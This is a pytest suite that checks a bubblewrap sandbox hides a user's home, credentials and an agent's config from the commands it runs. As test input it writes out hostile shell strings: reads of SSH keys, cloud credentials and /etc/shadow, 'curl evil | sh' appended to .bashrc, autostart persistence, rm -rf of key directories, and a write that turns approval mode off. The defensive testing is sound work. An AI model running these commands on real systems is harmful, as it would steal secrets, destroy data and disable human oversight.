"""What a command under bubblewrap can see: its reach, the system read-only, an empty home.

Each test builds a throwaway home with canary files (keys, cloud credentials, dotfiles,
a `$SEAM_HOME` holding config, approvals, a personality and a store) and checks, on real
namespaces, that a command can neither read nor change what the reach denies, wherever
the working directory is, including the home itself and `$SEAM_HOME`.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest

from seam.contracts.storage import ALWAYS_DENY, Reach
from seam.services.sandbox.bwrap import DEFAULT_BWRAP, BwrapSandbox, bwrap_available
from seam.services.sandbox.process import SandboxOptions

if not Path(DEFAULT_BWRAP).exists():
    pytestmark = pytest.mark.skip(
        reason=f"{DEFAULT_BWRAP} is not installed (scripts/ensure-bwrap installs bubblewrap)"
    )
elif not bwrap_available():
    pytestmark = pytest.mark.skip(reason="bwrap cannot create namespaces on this machine")

OPTIONS = SandboxOptions(kill_grace=0.5)
PATH = "/usr/local/bin:/usr/bin:/bin"
SECRET = "sk-canary-0123456789abcdef"

# The person's files a command must never see (relative to the home) and their contents.
CANARIES = {
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY----- canary",
    ".ssh/authorized_keys": "ssh-ed25519 AAAA canary",
    ".aws/credentials": "aws_secret_access_key = canary",
    ".config/gh/hosts.yml": "oauth_token: canary",
    ".config/app/settings": "canary",
    ".gnupg/secring.gpg": "canary",
    ".netrc": "machine example.com password canary",
    ".gitconfig": "[user]\n\tname = canary\n",
    ".profile": "# canary profile\n",
    ".local/share/keyrings/login.keyring": "canary",
    ".seam/config.toml": "[agent]\n# canary\n",
    ".seam/approvals.json": '{"canary": true}',
    ".seam/personalities/default/SOUL.md": "canary soul",
    ".seam/personalities/default/config.toml": "# canary",
    ".seam/sessions.db": "canary db",
    ".seam/pools/openai.json": "{}",
}


class Home:
    """A throwaway home: `root` with the canaries, `seam` its `$SEAM_HOME`."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.seam = root / ".seam"
        for rel, text in CANARIES.items():
            path = root / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        (root / "notes.txt").write_text("plain notes\n")
        self.project = root / "project"
        self.project.mkdir()
        (self.project / "main.py").write_text("print('hi')\n")

    def deny(self) -> tuple[str, ...]:
        """What wiring/reach.py adds for this home."""
        return (*ALWAYS_DENY, str(self.seam), str(self.root / ".config"), str(self.root / ".local"))

    def reach(self, *, read: tuple[Path, ...] = (), write: tuple[Path, ...] = ()) -> Reach:
        return Reach(
            read=tuple(str(p) for p in read),
            write=tuple(str(p) for p in write),
            deny=self.deny(),
        )

    def snapshot(self) -> dict[str, str]:
        """Every file under the home (outside the project) and its content."""
        found = {}
        for path in sorted(self.root.rglob("*")):
            if path.is_file() and not path.is_relative_to(self.project):
                found[str(path.relative_to(self.root))] = path.read_text()
        return found


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path / "user")


MakeSandbox = Callable[..., BwrapSandbox]


@pytest.fixture
async def make(home: Home) -> AsyncIterator[MakeSandbox]:
    made: list[BwrapSandbox] = []

    def build(working_dir: Path, reach: Reach, **kw: object) -> BwrapSandbox:
        env = {"PATH": PATH, "HOME": str(home.root), "OPENAI_API_KEY": SECRET, "LANG": "C"}
        sandbox = BwrapSandbox(str(working_dir), base_env=env, reach=reach, options=OPTIONS, **kw)
        made.append(sandbox)
        return sandbox

    yield build
    for sandbox in made:
        await sandbox.aclose()


READ_EVERYTHING = " ; ".join(f"cat ~/{rel} 2>/dev/null" for rel in CANARIES) + " ; true"
# Every way a command might try to change the person's files or Seam's controls.
WRITE_EVERYTHING = " ; ".join(
    [
        *(f"echo pwned >> ~/{rel} 2>/dev/null" for rel in CANARIES),
        "echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null",
        "echo pwned > ~/.zshrc 2>/dev/null",
        "mkdir -p ~/.config/autostart 2>/dev/null && echo x > ~/.config/autostart/x.desktop",
        "mkdir -p ~/.config/systemd/user 2>/dev/null && echo x > ~/.config/systemd/user/x.service",
        "rm -rf ~/.seam ~/.ssh ~/.aws 2>/dev/null",
        "echo 'approval_mode = \"off\"' >> ~/.seam/personalities/default/config.toml",
        "true",
    ]
)


async def test_a_project_under_the_home_sees_an_empty_home(home: Home, make: MakeSandbox) -> None:
    before = home.snapshot()
    sandbox = make(home.project, home.reach(read=(home.project,), write=(home.project,)))
    listing = await sandbox.run("ls -A ~; echo ---; cat main.py")
    assert listing.output == "project\n---\nprint('hi')\n"  # only the project's mount point
    result = await sandbox.run(f"{READ_EVERYTHING}; cat ~/notes.txt")
    assert "canary" not in result.output and "plain notes" not in result.output
    await sandbox.run(WRITE_EVERYTHING + "; echo new > ~/made-in-home")
    assert home.snapshot() == before  # nothing in the home changed, nothing was created
    made = await sandbox.run("echo kept > out.txt && cat out.txt")
    assert made.output == "kept\n" and (home.project / "out.txt").read_text() == "kept\n"


async def test_working_in_the_home_itself_masks_dotfiles_and_seam_home(
    home: Home, make: MakeSandbox
) -> None:
    before = home.snapshot()
    sandbox = make(home.root, home.reach(read=(home.root,), write=(home.root,)))
    result = await sandbox.run(READ_EVERYTHING)
    assert "canary" not in result.output
    await sandbox.run(WRITE_EVERYTHING)
    after = home.snapshot()
    assert after == before
    assert not (home.root / ".bashrc").exists() and not (home.root / ".zshrc").exists()
    # What the reach allows still works: plain files and the project, read and written.
    work = await sandbox.run(
        "cat notes.txt && echo more >> notes.txt && echo x > project/new.txt && ls project"
    )
    assert work.output == "plain notes\nmain.py\nnew.txt\n"
    assert (home.root / "notes.txt").read_text() == "plain notes\nmore\n"
    assert (home.project / "new.txt").read_text() == "x\n"


async def test_seam_home_inside_the_working_dir_is_masked(
    tmp_path: Path, make: MakeSandbox
) -> None:
    work = tmp_path / "work"
    seam = work / ".seam"
    (seam / "personalities" / "default").mkdir(parents=True)
    (seam / "approvals.json").write_text("{}")
    (seam / "personalities" / "default" / "SOUL.md").write_text("soul")
    reach = Reach(read=(str(work),), write=(str(work),), deny=(*ALWAYS_DENY, str(seam)))
    sandbox = make(work, reach)
    result = await sandbox.run(
        "ls -A .seam; cat .seam/approvals.json; echo '{\"x\":1}' > .seam/approvals.json;"
        " echo evil > .seam/personalities/default/SOUL.md; echo ok"
    )
    assert result.output.endswith("ok\n") and "soul" not in result.output
    assert (seam / "approvals.json").read_text() == "{}"
    assert (seam / "personalities" / "default" / "SOUL.md").read_text() == "soul"


async def test_working_in_seam_home_itself_shows_an_empty_dir(
    home: Home, make: MakeSandbox
) -> None:
    before = home.snapshot()
    reach = home.reach(read=(home.seam,), write=(home.seam,))
    sandbox = make(home.seam, reach)
    result = await sandbox.run(
        "pwd; ls -A; cat config.toml approvals.json 2>&1; echo x > approvals.json; "
        "echo y > config.toml; rm -rf personalities; echo done"
    )
    assert result.output.startswith(f"{home.seam}\n") and result.output.endswith("done\n")
    assert "canary" not in result.output
    assert home.snapshot() == before


async def test_reach_roots_are_mounted_with_their_mode(
    home: Home, make: MakeSandbox, tmp_path: Path
) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "ref.txt").write_text("reference\n")
    out = tmp_path / "out"
    out.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "secret.txt").write_text("not in reach\n")
    reach = home.reach(read=(home.project, docs), write=(out,))
    sandbox = make(home.project, reach)
    result = await sandbox.run(
        f"cat {docs}/ref.txt; echo x > {docs}/new 2>&1 || echo docs-ro;"
        f" echo y > {out}/made && echo out-rw; echo z > here.txt 2>&1 || echo work-ro;"
        f" cat {elsewhere}/secret.txt 2>&1 || echo elsewhere-hidden"
    )
    assert result.output.splitlines()[0] == "reference"
    for word in ("docs-ro", "out-rw", "work-ro", "elsewhere-hidden"):
        assert word in result.output
    assert "not in reach" not in result.output
    assert (out / "made").read_text() == "y\n"
    assert not (docs / "new").exists() and not (home.project / "here.txt").exists()


async def test_a_working_dir_outside_the_reach_is_an_empty_dir(
    home: Home, make: MakeSandbox, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    sandbox = make(home.project, home.reach(write=(out,)))
    result = await sandbox.run("pwd; ls -A; cat main.py 2>&1 | head -1")
    assert result.output.splitlines()[:1] == [str(home.project)]
    assert "print('hi')" not in result.output


async def test_nothing_of_seams_environment_or_the_system_secrets_shows(
    home: Home, make: MakeSandbox
) -> None:
    sandbox = make(home.project, home.reach(read=(home.project,), write=(home.project,)))
    result = await sandbox.run(
        "env; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; echo $PPID;"
        " cat /etc/shadow /etc/gshadow 2>&1; ls /root /home 2>&1; echo end"
    )
    assert SECRET not in result.output
    assert "OPENAI_API_KEY" not in result.output
    assert "root:" not in result.output  # /etc/shadow's first line on every Debian
    assert result.output.endswith("end\n")
    # The host's own checkout (where the tests run from) is not in the reach either.
    repo = Path(__file__).resolve().parents[2]
    listing = await sandbox.run(f"ls {repo} 2>&1 || echo hidden")
    assert listing.output.rstrip().endswith("hidden")


async def test_a_dotfile_linked_into_a_repository_is_masked_at_its_target(
    home: Home, make: MakeSandbox
) -> None:
    dotfiles = home.root / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "bashrc").write_text("# real bashrc\n")
    (home.root / ".bashrc").symlink_to(dotfiles / "bashrc")
    sandbox = make(home.root, home.reach(read=(home.root,), write=(home.root,)))
    await sandbox.run("echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null; true")
    assert (dotfiles / "bashrc").read_text() == "# real bashrc\n"


async def test_a_reach_reading_the_whole_machine_keeps_the_system_read_only(
    home: Home, make: MakeSandbox
) -> None:
    reach = home.reach(read=(Path("/"),), write=(home.project,))
    sandbox = make(home.project, reach)
    result = await sandbox.run(
        "ls /usr/bin/env && touch ok && echo rw-ok; touch /usr/seam-probe 2>&1 || echo usr-ro;"
        " cat /etc/shadow 2>&1 | grep -c '^root:'"
    )
    assert result.output.splitlines()[:2] == ["/usr/bin/env", "rw-ok"]
    assert "usr-ro" in result.output and result.output.rstrip().endswith("0")
    assert not Path("/usr/seam-probe").exists()
